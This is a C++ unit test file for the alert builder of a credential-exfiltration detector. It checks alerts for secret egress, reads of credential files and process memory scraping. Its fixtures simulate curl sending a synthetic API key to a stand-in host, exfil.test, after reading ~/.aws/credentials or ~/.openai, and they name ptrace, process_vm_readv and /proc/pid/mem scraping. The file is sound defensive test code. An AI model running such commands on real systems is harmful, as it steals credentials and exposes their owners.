// Every alert kind from typed values alone: the destination, the evidence (credential reads in
// the window, where a secret was stored, who read it), this host and time, and the key hidden
// in every text the alert carries.
#include "pipeline/alert_builder.h"

#include <gtest/gtest.h>

#include <memory>
#include <string>

#include "../match/shipped_database.h"
#include "../match/synthetic_keys.h"

namespace credsentry::pipeline {
namespace {

constexpr uint64_t kWindowNs = 1000;

std::string OpenAiKey() {
  credsentry::testing::KeyGenerator keys;
  return "sk-proj-" + keys.Alnum(74) + "T3BlbkFJ" + keys.Alnum(74);
}

class AlertBuilderTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto scope = state::Scope::Create({}, "/nonexistent-proc");
    ASSERT_TRUE(scope.ok());
    scope_ = std::make_unique<state::Scope>(*scope);
    processes_ = std::make_unique<state::ProcessTable>(*scope_);
    builder_ = std::make_unique<AlertBuilder>("test-host", kWindowNs, *processes_, learner_, db_);
  }

  void Exec(uint32_t pid, const std::string& comm, std::vector<std::string> argv) {
    decode::ProcessExec e;
    e.header.pid = pid;
    e.header.tid = pid;
    e.header.comm = comm;
    e.header.ts_ns = 1;
    e.ppid = 1;
    e.filename = "/usr/bin/" + comm;
    e.argv = std::move(argv);
    processes_->OnExec(e);
  }

  stream::StreamContext Ctx(uint32_t pid, uint64_t now) {
    stream::StreamContext ctx;
    ctx.pid = pid;
    ctx.comm = "curl";
    ctx.fd = 5;
    ctx.found_in = alert::FoundIn::kTlsWrite;
    ctx.last_mono_ns = now;
    return ctx;
  }

  static detect::ResolvedDestination ToExfil() {
    detect::ResolvedDestination d;
    d.where = {"exfil.test", "127.0.0.1", 443, alert::Transport::kTls, alert::NameSource::kSni, {}};
    d.notes = {"request claims host api.openai.com but the connection goes to exfil.test"};
    return d;
  }

  const catalogue::CredentialKind& OpenAiKind() const {
    return *db_->rules().FindKind("openai-project-key");
  }

  match::SecretMatch Match(const std::string& key) const {
    match::SecretMatch m;
    m.value = key;
    m.value_available = true;
    m.decoding = {"http1"};
    return m;
  }

  std::shared_ptr<const match::MatcherDatabase> db_ = credsentry::testing::ShippedMatcherDatabase();
  report::Fingerprinter fp_{"unit-test-key"};
  CredentialLearner learner_{16, db_, fp_};
  std::unique_ptr<state::Scope> scope_;
  std::unique_ptr<state::ProcessTable> processes_;
  std::unique_ptr<AlertBuilder> builder_;
};

TEST_F(AlertBuilderTest, SecretEgressNamesItsDestinationAndHidesTheKeyEverywhere) {
  const std::string key = OpenAiKey();
  Exec(400, "curl", {"curl", "-H", "Authorization: Bearer " + key, "https://exfil.test"});
  auto ctx = Ctx(400, 5000);
  ctx.gaps = 2;
  alert::Alert a = builder_->SecretEgress(ctx, OpenAiKind(), Match(key), ToExfil(),
                                          "sent to exfil.test", fp_.Of(key));
  EXPECT_EQ(a.kind, "secret-egress");
  EXPECT_FALSE(a.id.empty());
  EXPECT_EQ(a.host, "test-host");
  EXPECT_EQ(a.time_ns, builder_->WallNs(5000));
  EXPECT_EQ(a.severity, OpenAiKind().severity);
  EXPECT_EQ(a.secret.type, "openai-project-key");
  EXPECT_EQ(a.secret.found_in, alert::FoundIn::kTlsWrite);
  EXPECT_EQ(a.secret.fingerprint, fp_.Of(key));
  EXPECT_EQ(a.secret.redacted.find(key), std::string::npos);
  EXPECT_EQ(a.destination.host, "exfil.test");
  EXPECT_EQ(a.destination.ip, "127.0.0.1");
  EXPECT_EQ(a.destination.port, 443);
  EXPECT_EQ(a.destination.transport, alert::Transport::kTls);
  EXPECT_EQ(a.destination.name_source, alert::NameSource::kSni);
  EXPECT_EQ(a.destination.expected, OpenAiKind().destinations);
  EXPECT_EQ(a.evidence.decoding, std::vector<std::string>{"http1"});
  ASSERT_EQ(a.evidence.notes.size(), 2u);
  EXPECT_EQ(a.evidence.notes[0], ToExfil().notes[0]);
  EXPECT_EQ(a.evidence.notes[1], "capture of this stream was truncated 2 time(s)");
  EXPECT_EQ(a.summary, "curl (pid 400): sent to exfil.test");
  EXPECT_EQ(a.process.pid, 400u);
  EXPECT_NE(a.process.cmdline.find("https://exfil.test"), std::string::npos);
  EXPECT_EQ(a.process.cmdline.find(key), std::string::npos) << a.process.cmdline;
}

TEST_F(AlertBuilderTest, CredentialReadsOfTheLineageWithinTheWindowAreItsEvidence) {
  const std::string key = OpenAiKey();
  Exec(401, "curl", {"curl"});
  processes_->RecordCredentialRead(401, {"/old", 0, 401, "curl", 100, 10});
  processes_->RecordCredentialRead(401, {"/home/u/.openai", 0, 401, "curl", 4500, 10});
  alert::Alert a = builder_->SecretEgress(Ctx(401, 5000), OpenAiKind(), Match(key), ToExfil(),
                                          "sent to exfil.test", fp_.Of(key));
  EXPECT_EQ(a.kind, "credential-file-egress");
  ASSERT_EQ(a.evidence.credential_reads.size(), 1u) << "the read at 100 is past the window";
  EXPECT_EQ(a.evidence.credential_reads[0].path, "/home/u/.openai");
  EXPECT_EQ(a.evidence.credential_reads[0].time_ns, builder_->WallNs(4500));
  EXPECT_EQ(a.summary, "curl (pid 401): sent to exfil.test after reading /home/u/.openai");
}

// cat key | curl: the secret was read by another process, whose read is evidence too.
TEST_F(AlertBuilderTest, AnotherProcessThatReadTheSecretIsNamed) {
  const std::string key = OpenAiKey();
  Exec(402, "curl", {"curl"});
  learner_.AddKnownSecret(fp_.Of(key), "/home/u/key", {403, "cat", 4000});
  alert::Alert a = builder_->SecretEgress(Ctx(402, 5000), OpenAiKind(), Match(key), ToExfil(),
                                          "sent to exfil.test", fp_.Of(key));
  EXPECT_EQ(a.kind, "credential-file-egress");
  EXPECT_EQ(a.evidence.notes.back(),
            "this exact secret was read from /home/u/key by cat (pid 403)");
  ASSERT_EQ(a.evidence.credential_reads.size(), 1u);
  EXPECT_EQ(a.evidence.credential_reads[0].pid, 403u);
  EXPECT_EQ(a.evidence.credential_reads[0].path, "/home/u/key");
}

TEST_F(AlertBuilderTest, AValueNotAvailableIsSaidSo) {
  match::SecretMatch m;
  m.value_available = false;  // the value began before the retained tail
  alert::Alert a = builder_->SecretEgress(Ctx(404, 5000), OpenAiKind(), m, ToExfil(), "r", "");
  EXPECT_EQ(a.secret.redacted, "(unavailable)");
  EXPECT_EQ(a.kind, "secret-egress");
}

TEST_F(AlertBuilderTest, TaintedEgressCarriesTheDestinationAndTheReads) {
  Exec(405, "curl", {"curl"});
  const uint32_t aws_file = 1 + [&] {
    const auto& files = db_->rules().files;
    for (size_t i = 0; i < files.size(); ++i) {
      if (files[i].id == "aws-credentials") return i;
    }
    return files.size();
  }();
  ASSERT_LE(aws_file, db_->rules().files.size());
  std::vector<state::CredentialRead> reads = {
      {"/home/u/.aws/credentials", aws_file, 405, "curl", 4800, 100}};
  alert::Alert a = builder_->TaintedEgress(Ctx(405, 5000), reads, ToExfil());
  EXPECT_EQ(a.kind, "tainted-egress");
  EXPECT_EQ(a.host, "test-host");
  EXPECT_EQ(a.time_ns, builder_->WallNs(5000));
  EXPECT_EQ(a.secret.type, "aws-credentials");
  EXPECT_EQ(a.secret.found_in, alert::FoundIn::kProvenance);
  EXPECT_EQ(a.destination.host, "exfil.test");
  EXPECT_EQ(a.destination.port, 443);
  EXPECT_EQ(a.destination.name_source, alert::NameSource::kSni);
  EXPECT_FALSE(a.destination.expected.empty());
  ASSERT_EQ(a.evidence.credential_reads.size(), 1u);
  EXPECT_EQ(a.evidence.credential_reads[0].time_ns, builder_->WallNs(4800));
  EXPECT_EQ(a.evidence.notes.front(), ToExfil().notes[0]);
  EXPECT_EQ(a.process.pid, 405u);
}

TEST_F(AlertBuilderTest, ProcessAccessGetsThisHostAndItsTime) {
  Exec(406, "python3", {"python3"});
  decode::ProcessAccess e;
  e.header.pid = 406;
  e.header.comm = "python3";
  e.header.ts_ns = 7000;
  e.target_pid = 999;
  e.what = decode::ProcessAccess::What::kEnviron;
  alert::Alert a = builder_->ProcessAccess(e, nullptr);
  EXPECT_EQ(a.kind, "process-credential-access");
  EXPECT_EQ(a.host, "test-host");
  EXPECT_EQ(a.time_ns, builder_->WallNs(7000));
  EXPECT_EQ(a.target.pid, 999u);
  EXPECT_EQ(a.target.access, "environ");
  EXPECT_EQ(a.destination.transport, alert::Transport::kUnknown);
  EXPECT_EQ(a.secret.found_in, alert::FoundIn::kNone);
}

TEST_F(AlertBuilderTest, EachScrapeMethodIsNamedInTheSummaryAndTarget) {
  Exec(407, "python3", {"python3"});
  using What = decode::ProcessAccess::What;
  const struct {
    What what;
    int32_t detail;
    const char* access;
    const char* says;
  } cases[] = {
      {What::kVmReadv, -1, "process_vm_readv", "read the memory of pid 999 with process_vm_readv"},
      {What::kPtrace, 16, "ptrace", "attached to pid 999 with ptrace"},
      {What::kPtrace, 0x4206, "ptrace", "seized pid 999 with ptrace"},
      {What::kPtrace, 2, "ptrace", "peeked into the memory of pid 999 with ptrace"},
      {What::kPidfdGetfd, 3, "pidfd_getfd", "took fd 3 of pid 999 with pidfd_getfd"},
      {What::kMem, 5, "mem", "opened /proc/999/mem"},
  };
  for (const auto& c : cases) {
    decode::ProcessAccess e;
    e.header.pid = 407;
    e.header.comm = "python3";
    e.target_pid = 999;
    e.fd = c.detail;
    e.what = c.what;
    alert::Alert a = builder_->ProcessAccess(e, nullptr);
    EXPECT_EQ(a.target.access, c.access);
    EXPECT_EQ(a.summary, std::string("python3 (pid 407) ") + c.says) << c.access;
  }
}

}  // namespace
}  // namespace credsentry::pipeline
